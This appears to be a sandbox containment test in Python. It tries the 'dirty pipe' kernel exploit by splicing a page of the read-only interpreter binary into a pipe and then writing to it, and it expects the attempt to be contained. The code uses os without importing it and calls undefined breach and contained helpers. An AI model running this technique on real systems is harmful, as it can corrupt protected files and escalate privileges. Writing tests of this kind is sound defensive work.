"""Write to a page that is only read.

Tries: the trick of "dirty pipe": splice a page of a read-only file into a pipe, then write to it.
Expect: contained
"""

import sys

path = os.path.realpath(sys.executable)
file = os.open(path, os.O_RDONLY)
reader, writer = os.pipe()
os.write(writer, b"x" * 65536)
os.read(reader, 65536)
before = os.pread(file, 64, 0)
os.splice(file, writer, 1, offset_src=4)
os.write(writer, b"BREACH")
if os.pread(file, 64, 0) != before:
    breach("a program of the image was changed")
else:
    contained("the page stayed as it was")
